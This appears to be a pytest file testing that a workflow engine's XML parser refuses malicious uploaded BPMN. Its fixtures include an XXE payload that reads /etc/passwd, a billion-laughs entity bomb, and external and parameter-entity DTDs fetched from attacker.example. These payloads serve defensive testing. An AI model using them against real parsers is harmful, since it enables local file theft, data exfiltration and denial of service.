"""Uploaded BPMN/DMN is parsed without DTDs, entities or network access."""

from __future__ import annotations

import codecs

import pytest
from lxml import etree

from engine.errors import InvalidDefinition
from engine.runtime.safe_xml import MAX_BYTES, parse_xml

BPMN = """<?xml version="1.0" encoding="UTF-8"?>
<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL" id="d" targetNamespace="t">
  <!-- comments are kept -->
  <bpmn:process id="p" name="报修流程" isExecutable="true">
    <bpmn:startEvent id="s"/>
    <bpmn:sequenceFlow id="f1" sourceRef="s" targetRef="work"/>
    <bpmn:scriptTask id="work"><bpmn:script><![CDATA[x = 1 if a < b else 2]]></bpmn:script></bpmn:scriptTask>
    <bpmn:sequenceFlow id="f2" sourceRef="work" targetRef="e"/>
    <bpmn:endEvent id="e"/>
  </bpmn:process>
</bpmn:definitions>
"""
NS = {"bpmn": "http://www.omg.org/spec/BPMN/20100524/MODEL"}

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>
<x>&e;</x>"""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<lolz>&lol9;</lolz>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE definitions SYSTEM "http://attacker.example/evil.dtd">
<definitions/>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]>
<x/>"""


def refused(content, filename="up.bpmn") -> InvalidDefinition:
    with pytest.raises(InvalidDefinition) as info:
        parse_xml(content, filename)
    error = info.value
    assert error.problems and all(p["file"] == filename for p in error.problems)
    return error


def test_valid_bpmn_parses():
    root = parse_xml(BPMN.encode("utf-8"), "ok.bpmn")
    assert isinstance(root, etree._Element)
    assert root.find("bpmn:process", NS).get("name") == "报修流程"
    assert root.find(".//bpmn:script", NS).text == "x = 1 if a < b else 2"
    assert any(isinstance(node, etree._Comment) for node in root.iter())


def test_valid_bpmn_as_str_parses_even_with_an_encoding_declaration():
    root = parse_xml(BPMN, "ok.bpmn")
    assert root.find("bpmn:process", NS).get("name") == "报修流程"
    latin = BPMN.replace('encoding="UTF-8"', 'encoding="ISO-8859-1"')
    assert parse_xml(latin, "ok.bpmn").find("bpmn:process", NS).get("name") == "报修流程"


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "gb18030", "iso-8859-1"])
def test_non_utf8_documents(encoding):
    text = '<?xml version="1.0" encoding="{}"?>\n<root name="{}"/>'.format(
        encoding.upper(), "Zürich" if encoding == "iso-8859-1" else "报修"
    )
    data = text.encode(encoding)
    if encoding == "utf-16-le":
        data = codecs.BOM_UTF16_LE + data
    root = parse_xml(data, "enc.bpmn")
    assert root.get("name") in ("Zürich", "报修")


def test_invalid_utf8_is_a_definition_error_with_a_line():
    error = refused(b"<root>\n<a>caf\xe9</a></root>")
    assert error.problems[0]["message"].startswith("line ")


def test_xxe_refused_and_file_never_read():
    error = refused(XXE)
    text = str(error.to_dict())
    assert "root:" not in text  # /etc/passwd's first line
    assert "DOCTYPE" in error.problems[0]["message"]
    assert error.problems[0]["message"].startswith("line 2:")


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-be", "utf-32"])
def test_xxe_hidden_in_a_wide_encoding_is_refused(encoding):
    text = XXE.decode().replace('<?xml version="1.0"?>', f'<?xml version="1.0" encoding="{encoding.upper()}"?>')
    data = text.encode(encoding)
    if encoding == "utf-16-be":
        data = codecs.BOM_UTF16_BE + data
    refused(data)


def test_xxe_refused_even_if_the_raw_scan_were_bypassed(monkeypatch):
    # belt and braces: the parsed tree's doctype is checked too
    from engine.runtime import safe_xml

    monkeypatch.setattr(safe_xml, "_declaration_line", lambda raw, filename: None)
    error = refused(XXE)
    assert "root:" not in str(error.to_dict())


def test_the_parser_itself_resolves_no_entities(tmp_path):
    # defence in depth: even with the DOCTYPE checks gone, the parser must not read files or expand entities
    from engine.runtime import safe_xml

    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-VALUE")
    xxe = XXE.replace(b"file:///etc/passwd", secret.as_uri().encode())
    root = etree.fromstring(xxe, safe_xml._parser())
    assert "TOP-SECRET-VALUE" not in etree.tostring(root, encoding=str)


def test_the_parser_itself_does_not_expand_entities():
    from engine.runtime import safe_xml

    try:
        root = etree.fromstring(BILLION_LAUGHS, safe_xml._parser())
    except etree.XMLSyntaxError:  # libxml2's amplification limit (not huge_tree) also stops it
        pass
    else:
        assert len(etree.tostring(root)) < 10_000


def test_xxe_on_a_local_file_never_shows_its_content(tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-VALUE")
    error = refused(XXE.replace(b"file:///etc/passwd", secret.as_uri().encode()))
    assert "TOP-SECRET-VALUE" not in str(error.to_dict())


def test_billion_laughs_refused_before_parsing():
    error = refused(BILLION_LAUGHS)
    assert "DOCTYPE" in str(error.to_dict())


@pytest.mark.parametrize("content", [EXTERNAL_DTD, PARAMETER_ENTITY, b"<!doctype x><x/>", b"<x/><!ENTITY e 'x'>"])
def test_any_dtd_is_refused(content):
    refused(content)


@pytest.mark.parametrize(
    "content, line",
    [
        (b"<?xml version='1.0'?>\n<a>\n  <b>\n</a>", 4),
        (b"<a>\n<b>text</b>\n<c>", 3),
        (b"<a x='1' x='2'/>", 1),
        (b"", 1),
        (b"not xml at all", 1),
    ],
)
def test_malformed_xml(content, line):
    error = refused(content, filename="broken.bpmn")
    problem = error.problems[0]
    assert problem["element"] is None
    assert problem["message"].startswith(f"line {line}: ")
    assert "broken.bpmn" in error.message


def test_undefined_entity_is_malformed():
    refused(b"<x>&e;</x>")


def test_oversize_refused():
    big = b"<a>" + b"x" * MAX_BYTES + b"</a>"
    error = refused(big, filename="big.bpmn")
    assert "5 MiB" in error.problems[0]["message"]


def test_just_under_the_limit_parses():
    filler = b"x" * (MAX_BYTES - 7)
    assert len(parse_xml(b"<a>" + filler + b"</a>", "ok.bpmn").text) == len(filler)
